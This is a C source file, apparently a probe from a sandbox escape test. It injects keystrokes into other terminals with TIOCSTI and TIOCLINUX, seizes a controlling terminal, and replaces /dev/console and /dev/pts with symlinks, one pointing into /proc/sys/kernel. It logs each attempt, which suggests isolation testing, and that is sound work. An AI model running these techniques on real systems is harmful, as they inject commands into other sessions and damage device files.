// Terminals: typing into one that is not ours.
#include "common.h"
#include <pty.h>
#include <termios.h>
#include <poll.h>

static void type(int fd, const char *text) {
    for (; *text; text++)
        if (ioctl(fd, TIOCSTI, text) != 0) {
            tried("TIOCSTI");
            return;
        }
    printf("ATTEMPT TIOCSTI: typed\n");
    fflush(stdout);
}

static int push(const char *text) {
    char line[256];
    snprintf(line, sizeof line, "%s\n", text);
    for (int fd = 0; fd < 3; fd++) type(fd, line);
    int tty = open("/dev/tty", O_RDWR);
    if (tty >= 0) type(tty, line);
    // The console's selection buffer, pasted back, is the same attack under another number.
    char paste = 3;
    for (int fd = 0; fd < 3; fd++) ioctl(fd, TIOCLINUX, &paste);
    tried("TIOCLINUX");
    const char *others[] = {"/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/dev/pts/0", "/dev/pts/1", "/dev/vcs1"};
    for (int i = 0; i < 7; i++) {
        int fd = open(others[i], O_RDWR | O_NOCTTY | O_NONBLOCK);
        if (fd >= 0) type(fd, line);
        else tried(others[i]);
    }
    // Taking the terminal away from its session.
    setsid();
    for (int fd = 0; fd < 3; fd++)
        if (ioctl(fd, TIOCSCTTY, 1) == 0) type(fd, line);
    return 0;
}

// /dev/console replaced by a link while something may still bind onto it, and written through.
static int console(const char *target, const char *token) {
    unlink("/dev/console");
    symlink(target, "/dev/console");
    tried("link in place of /dev/console");
    int fd = open("/dev/console", O_WRONLY | O_NOCTTY | O_NONBLOCK);
    if (fd >= 0) {
        write(fd, token, strlen(token));
        tried("write to /dev/console");
        close(fd);
    } else tried("open of /dev/console");
    rename("/dev/pts", "/dev/pts.old");
    symlink("/proc/sys/kernel", "/dev/pts");
    tried("link in place of /dev/pts");
    return 0;
}

// Outside: runs a command on a terminal of its own and copies what it prints; ends after `seconds`.
static int run_on_pty(int seconds, char **command) {
    int master;
    int pid = forkpty(&master, 0, 0, 0);
    if (pid < 0) return 1;
    if (pid == 0) {
        execvp(command[0], command);
        _exit(127);
    }
    char buf[4096];
    for (time_t end = time(0) + seconds; time(0) < end;) {
        struct pollfd p = {master, POLLIN, 0};
        if (poll(&p, 1, 500) == 0) continue;
        ssize_t n = read(master, buf, sizeof buf);
        if (n <= 0) break;
        fwrite(buf, 1, (size_t)n, stdout);
        fflush(stdout);
    }
    kill(pid, SIGHUP);
    int status = 0;
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

int main(int argc, char **argv) {
    if (argc < 3) return usage();
    if (!is(argv[1], "pty")) printf("ATTEMPT %s\n", argv[1]), fflush(stdout);
    if (is(argv[1], "push")) return push(argv[2]);
    if (is(argv[1], "console") && argc == 4) return console(argv[2], argv[3]);
    if (is(argv[1], "pty") && argc > 3) return run_on_pty(atoi(argv[2]), argv + 3);
    return usage();
}
